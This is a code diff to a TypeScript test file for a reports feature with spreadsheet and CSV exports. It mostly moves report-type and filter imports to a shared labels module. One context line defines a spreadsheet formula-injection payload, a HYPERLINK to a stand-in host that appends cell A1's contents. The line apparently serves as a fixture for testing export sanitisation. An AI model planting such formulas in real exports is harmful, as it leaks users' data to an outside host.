@@ -5,6 +5,7 @@ import { boxRequests } from '#features/box-requests/tables.server.ts'
 import { contactMessages } from '#features/contact/tables.server.ts'
 import { donations } from '#features/donations/tables.server.ts'
 import { eventRegistrations, events } from '#features/events/tables.server.ts'
+import { type ReportType, reportLabels, reportTypes } from '#features/labels.ts'
 import { volunteers } from '#features/volunteers/tables.server.ts'
 import { rateLimits } from '#lib/http/rate-limits.server.ts'
 import { puertoRicoDay } from '#lib/text/dates.ts'
@@ -12,7 +13,6 @@ import { type CallAnswer, type TestApp, testApp } from '#tests/support/app.ts'
 import { readCsv } from '#tests/support/csv.ts'
 import { dateOfSerial, readWorkbook } from '#tests/support/workbook.ts'
 import { reportApi } from './endpoints.ts'
-import { type ReportType, reportFilters, reportTypes } from './schemas.ts'
 import { reportLimit } from './service.server.ts'
 
 const evil = '=HYPERLINK("http://x.example/?"&A1,"María")'
@@ -186,7 +186,7 @@ describe('reports', () => {
   })
 
   test('a filter that means nothing for a report narrows nothing', async () => {
-    expect(reportFilters.events).not.toContain('email')
+    expect(reportLabels.events.filters).not.toContain('email')
     expect(await count('events', { email: 'nadie@' })).toBe(2)
   })
 
